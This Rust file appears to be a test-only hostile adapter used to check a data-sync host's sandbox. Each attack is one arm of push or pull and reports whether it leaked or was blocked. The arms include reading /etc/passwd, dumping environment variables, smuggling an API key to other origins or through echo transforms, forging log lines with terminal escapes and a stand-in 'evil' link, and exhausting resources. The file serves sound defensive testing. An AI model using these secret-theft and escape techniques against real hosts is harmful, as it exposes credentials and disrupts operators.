//! TEST ONLY. An adapter written to attack the host, type `hostile`. The extra field
//! `attack` picks the attack; `push` (or `pull`, for the pull attacks) performs it and
//! reports what it could observe as an `Internal` error: `LEAK: …` when the sandbox
//! failed, `blocked: …` when it held. What it saw of a response is reported as
//! colon-separated hex (`saw=73:6b:…`), a form the host's own scrubbing of run history
//! does not look for, so a test can decode it and see exactly what reached the adapter.
//!
//! Its name carries terminal escapes and a forged log line, to prove they are shown
//! neutralised.
//!
//! Over 400 lines: every attack is one arm of the same two functions, so an attack test
//! names its arm here.

use datacollect_adapter_sdk::host::{log, Level};
use datacollect_adapter_sdk::prelude::*;

struct Hostile;

fn report<T, E: std::fmt::Debug>(what: &str, r: Result<T, E>) -> SyncError {
    match r {
        Ok(_) => SyncError::Internal(format!("LEAK: {what} succeeded")),
        Err(e) => SyncError::Internal(format!("blocked: {what}: {e:?}")),
    }
}

/// Bytes as `aa:bb:cc`: what the adapter saw, in a form the host does not scrub.
fn colon_hex(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// What a request gave back: `saw=<colon hex>` or `err=<error>`.
fn seen(r: Result<Response, SyncError>) -> String {
    match r {
        Ok(resp) => format!("saw={}", colon_hex(&resp.body)),
        Err(e) => format!("err={e:?}"),
    }
}

/// Recursion the optimizer cannot turn into a loop: each frame calls through an opaque
/// function pointer and keeps a live local array.
fn recurse(n: u64) -> u64 {
    let local = std::hint::black_box([n; 64]);
    let next: fn(u64) -> u64 = std::hint::black_box(recurse);
    next(local[(n % 64) as usize] + 1) ^ std::hint::black_box(local)[7]
}

const TRANSFORMS: &str = "raw,gzip,base64,hex,reversed,upper,json-slash,json-unicode,percent,html,prefix-half,suffix-half";

impl Adapter for Hostile {
    fn describe() -> AdapterInfo {
        let info = AdapterInfo::new(
            "hostile",
            "Hostile \u{1b}]0;pwned\u{7}\u{1b}[2J adapter\r\nINFO forged log line",
            env!("CARGO_PKG_VERSION"),
        )
        .field(FieldSpec::new("apiKey", "a secret to try to steal").secret())
        .field(FieldSpec::new("pin", "a short secret").secret())
        .field(FieldSpec::new("password", "a secret for body placements").secret());
        // The earlier version (hostile-v0) did not declare `passcode` secret: a hot swap
        // to this one must mask it from the next call on.
        if cfg!(feature = "v0") {
            info
        } else {
            info.field(FieldSpec::new("passcode", "secret only by declaration").secret())
        }
    }

    fn secret_placements() -> Option<Vec<SecretPlacement>> {
        Some(vec![
            SecretPlacement::new(
                "apiKey",
                [Placement::Header("x-api-key".into()), Placement::BasicAuth],
            ),
            SecretPlacement::new(
                "password",
                [Placement::JsonBody {
                    // Relative to the config URL's path (`…/mock-sync`).
                    path: "/echo".into(),
                    pointer: "/key".into(),
                }],
            ),
        ])
    }

    fn push(config: &Config, events: Vec<Event>) -> Result<PushOutcome, SyncError> {
        let target = config
            .extra("target")
            .unwrap_or("http://127.0.0.1:1/")
            .to_string();
        let key = Config::secret_ref("apiKey");
        let url = |path: &str| format!("{}{path}", config.url);
        Err(match config.extra("attack").unwrap_or_default() {
            // Pull attacks let the push through...
            "huge-page" | "endless-pages" | "stalled-pages" | "future-timestamp" => {
                return Ok(PushOutcome::all(events.len()))
            }
            // ...and so do those that try to own everything by accepting everything: every
            // event in the store is offered to a new config, from sequence 0.
            "take-over-delete" | "take-over-update" => return Ok(PushOutcome::all(events.len())),
            // ...except those after entities that are not theirs: they refuse every event,
            // so nothing pushed to them becomes theirs.
            "delete-foreign" | "update-foreign" => {
                let refused = events
                    .iter()
                    .map(|e| Rejection {
                        guid: e.guid.clone(),
                        reason: "not taking it".into(),
                    })
                    .collect();
                return Ok(PushOutcome::with_rejections(&events, refused));
            }
            "dump-config" => SyncError::Internal(format!("config: {config:?}")),
            // What an earlier call left in this instance's memory (a static and the heap it
            // points to): every call must start from a fresh instance, even in a pool slot
            // that keeps its pages resident between calls. Reported in hex.
            "remember" => {
                static LEFT: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());
                let mut left = LEFT.lock().unwrap_or_else(|e| e.into_inner());
                let before = left.join("|");
                left.push(format!("{} {}", config.id, key));
                SyncError::Internal(format!(
                    "kept={} saw={}",
                    left.len(),
                    colon_hex(before.as_bytes())
                ))
            }
            // Memory a previous call grew and wrote: grow 24 MiB past the initial memory
            // (its pages reach beyond the 16 MiB a pool slot keeps resident), count the
            // bytes that are not zero, then leave canaries in the kept part and beyond it.
            "remember-grown" => grown_memory_report(),
            "redirect" => match Request::get(url(&format!("/redirect?to={target}"))).send() {
                Ok(r) => SyncError::Internal(format!(
                    "redirect answered {} location {:?}",
                    r.status,
                    r.header("location")
                )),
                Err(e) => SyncError::Internal(format!("redirect failed: {e:?}")),
            },
            "read-file" => report("read /etc/passwd", std::fs::read_to_string("/etc/passwd")),
            "list-root" => report("list /", std::fs::read_dir("/")),
            "env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                if vars.is_empty() {
                    SyncError::Internal("blocked: environment is empty".into())
                } else {
                    SyncError::Internal(format!("LEAK: {} environment variables", vars.len()))
                }
            }
            "big-request" => report(
                "a 2 MiB request body",
                Request::post(url("/echo")).body(vec![b'x'; 2 << 20]).send(),
            ),
            "big-response" => {
                // The echo server answers with what it was sent: 600 KiB up, more than the
                // test's 512 KiB response cap back.
                report(
                    "a response over the cap",
                    Request::post(url("/echo"))
                        .body(vec![b'y'; 600 << 10])
                        .send(),
                )
            }
            "socket" => report(
                "tcp connect",
                std::net::TcpStream::connect(
                    target.trim_start_matches("http://").trim_end_matches('/'),
                ),
            ),
            "other-url" => report("http to another origin", Request::get(target).send()),
            "other-url-with-secret" => report(
                "the secret to another allowed origin",
                Request::get(target).header("x-api-key", key.clone()).send(),
            ),
            "url-secret" => report(
                "secret in URL",
                Request::get(format!("{}?k={key}", config.url)).send(),
            ),
            // Every way of getting an echoed secret back: each transform of the echo.
            "echo-transforms" => {
                let list = config.extra("transforms").unwrap_or(TRANSFORMS);
                let out: Vec<String> = list
                    .split(',')
                    .map(|t| {
                        let r = Request::post(url(&format!("/echo?transform={t}")))
                            .header("x-api-key", key.clone())
                            .basic_auth("user", key.clone())
                            .send();
                        format!("{t} {}", seen(r))
                    })
                    .collect();
                SyncError::Internal(format!("echo results: {}", out.join(" | ")))
            }
            // The 1.0-era attack: ask for a compressed answer, inflate it here.
            "accept-gzip" => SyncError::Internal(format!(
                "accept-gzip {}",
                seen(
                    Request::post(url("/echo?transform=gzip"))
                        .header("accept-encoding", "gzip")
                        .header("x-api-key", key.clone())
                        .send()
                )
            )),
            "host-header" => report(
                "a Host header of our choosing",
                Request::get(url("/echo"))
                    .header("Host", "other-vhost.example")
                    .header("x-api-key", key.clone())
                    .send(),
            ),
            "undeclared-header" => report(
                "the key in a header it is not declared for",
                Request::get(url("/echo"))
                    .header("x-leak", key.clone())
                    .send(),
            ),
            // Store the key in a body field of a record, then read it back 3 bytes at a time.
            "stash-body" => {
                let stored = Request::post(url("/stash"))
                    .json(&json!({ "note": key }))
                    .and_then(|r| r.send());
                let mut got = Vec::new();
                if stored.is_ok() {
                    for offset in (0..400).step_by(3) {
                        match Request::get(url(&format!("/stash?offset={offset}&len=3"))).send() {
                            Ok(r) => got.extend(r.body),
                            Err(_) => break,
                        }
                    }
                }
                SyncError::Internal(format!(
                    "stash {} read saw={}",
                    seen(stored),
                    colon_hex(&got)
                ))
            }
            // The password at its declared JSON pointer of its declared path: allowed only
            // when the operator approved body placements.
            "body-declared" => SyncError::Internal(format!(
                "body-declared {}",
                seen(
                    Request::post(url("/echo?transform=reversed"))
                        .json(&json!({ "key": Config::secret_ref("password") }))
                        .and_then(|r| r.send())
                )
            )),
            "body-elsewhere" => report(
                "the password inside a record field of the body",
                Request::post(url("/echo"))
                    .json(&json!({ "record": { "name": Config::secret_ref("password") } }))
                    .and_then(|r| r.send()),
            ),
            // 8 000 guesses in one URL to a closed port: the error text must not say which
            // one matched.
            "url-oracle" => {
                let guesses: Vec<String> = (0..8000).map(|i| format!("{i:06}")).collect();
                let r = Request::get(format!("{}?g={}", config.url, guesses.join(","))).send();
                SyncError::Internal(format!("oracle {}", seen(r)))
            }
            "over-reject" => {
                let guid = events.first().map(|e| e.guid.clone()).unwrap_or_default();
                SyncError::Rejected(vec![
                    Rejection {
                        guid,
                        reason: "again".into(),
                    };
                    200_000
                ])
            }
            "over-reject-outcome" => {
                let mut rejected: Vec<Rejection> = events
                    .iter()
                    .flat_map(|e| {
                        std::iter::repeat_n(
                            Rejection {
                                guid: e.guid.clone(),
                                reason: "no".into(),
                            },
                            3,
                        )
                    })
                    .collect();
                rejected.push(Rejection {
                    guid: "not-in-the-batch".into(),
                    reason: "no".into(),
                });
                return Ok(PushOutcome {
                    accepted: 0,
                    rejected,
                    remote_ref: None,
                });
            }
            "ansi-error" => SyncError::Internal(
                "\u{1b}[31mred\u{1b}[0m\r\nINFO sync finished pushed=999 (forged)".into(),
            ),
            "ansi-log" => {
                log(
                    Level::Warn,
                    "\u{1b}]0;pwned\u{7}line one\r\nINFO forged second line",
                    &[("k\u{1b}[1m", "v\r\nforged")],
                );
                SyncError::Internal("logged".into())
            }
            "ansi-reject" => {
                let guid = events.first().map(|e| e.guid.clone()).unwrap_or_default();
                return Ok(PushOutcome {
                    accepted: (events.len() - 1) as u32,
                    rejected: vec![Rejection {
                        guid,
                        reason: "\u{1b}[2Jcleared\r\nforged".into(),
                    }],
                    remote_ref: Some("\u{1b}]8;;http://evil\u{7}ref".into()),
                });
            }
            "loop" => loop {
                std::hint::black_box(0u64);
            },
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recurse" => SyncError::Internal(format!("{}", recurse(1))),
            "trap" => {
                #[cfg(target_arch = "wasm32")]
                core::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!()
            }
            "panic" => panic!("hostile adapter panics"),
            "log-flood" => {
                for i in 0..100_000 {
                    log(
                        Level::Error,
                        &format!("flood line {i} {}", "x".repeat(10_000)),
                        &[],
                    );
                }
                SyncError::Internal("blocked: log flood finished".into())
            }
            "hostcalls" => loop {
                log(Level::Trace, "", &[]);
            },
            other => SyncError::Config(format!("unknown attack {other:?}")),
        })
    }

    fn pull(config: &Config, cursor: Option<String>, _limit: u32) -> Result<PullPage, SyncError> {
        let n: u64 = cursor.as_deref().and_then(|c| c.parse().ok()).unwrap_or(0);
        let event = |entity: &str, ty: &str, data: serde_json::Value, at: &str| Event {
            guid: String::new(),
            entity_guid: entity.into(),
            event_type: ty.into(),
            data: Data::from_value(&data),
            timestamp: at.into(),
            user_id: String::new(),
            sync_level: SyncLevel::External,
        };
        let target = config.extra("target").unwrap_or("victim").to_string();
        let one = |e: Event| {
            Ok(PullPage {
                events: vec![e],
                next_cursor: Some("1".into()),
                has_more: false,
            })
        };
        match config.extra("attack").unwrap_or_default() {
            "huge-page" => Ok(PullPage {
                // About 20 MB: over the 16 MB return limit the tests set, under their memory limit.
                events: vec![
                    event(
                        "e",
                        "create-individual",
                        json!({ "padding": "y".repeat(2_000_000) }),
                        "2025-01-01T00:00:00Z"
                    );
                    10
                ],
                next_cursor: None,
                has_more: false,
            }),
            // Empty pages forever, the cursor moving each time: the run must end.
            "endless-pages" => Ok(PullPage {
                events: Vec::new(),
                next_cursor: Some((n + 1).to_string()),
                has_more: true,
            }),
            // The same record forever, the cursor moving: no progress either.
            "stalled-pages" => Ok(PullPage {
                events: vec![event(
                    "same",
                    "create-individual",
                    json!({"name": "again"}),
                    "2025-01-01T00:00:00Z",
                )],
                next_cursor: Some((n + 1).to_string()),
                has_more: true,
            }),
            "delete-foreign" | "take-over-delete" => one(event(
                &target,
                "delete-entity",
                json!({}),
                "2025-01-01T00:00:00Z",
            )),
            "update-foreign" | "take-over-update" => one(event(
                &target,
                "update-individual",
                json!({"name": "Taken over"}),
                "9999-12-31T23:59:59Z",
            )),
            "future-timestamp" => one(event(
                "brand-new",
                "create-individual",
                json!({"name": "From the future"}),
                "9999-12-31T23:59:59Z",
            )),
            _ => Ok(PullPage::default()),
        }
    }
}

/// See the `remember-grown` attack.
#[cfg(target_arch = "wasm32")]
fn grown_memory_report() -> SyncError {
    use core::arch::wasm32::{memory_grow, memory_size};
    const PAGE: usize = 65536;
    let pages = (24 << 20) / PAGE;
    let start = memory_size(0) * PAGE;
    if memory_grow(0, pages) == usize::MAX {
        return SyncError::Internal("memory.grow failed".into());
    }
    // SAFETY: the pages were just added to this instance's memory and nothing else uses them.
    let region = unsafe { core::slice::from_raw_parts_mut(start as *mut u8, pages * PAGE) };
    let dirty = region.iter().filter(|b| **b != 0).count();
    for absolute in [2usize << 20, 20 << 20, start + pages * PAGE - 4096] {
        let at = absolute - start;
        region[at..at + 16].copy_from_slice(b"DCSYNC-CANARY-01");
    }
    SyncError::Internal(format!("grown_from={start} dirty={dirty}"))
}

#[cfg(not(target_arch = "wasm32"))]
fn grown_memory_report() -> SyncError {
    SyncError::Internal("only in WebAssembly".into())
}

export_adapter!(Hostile);
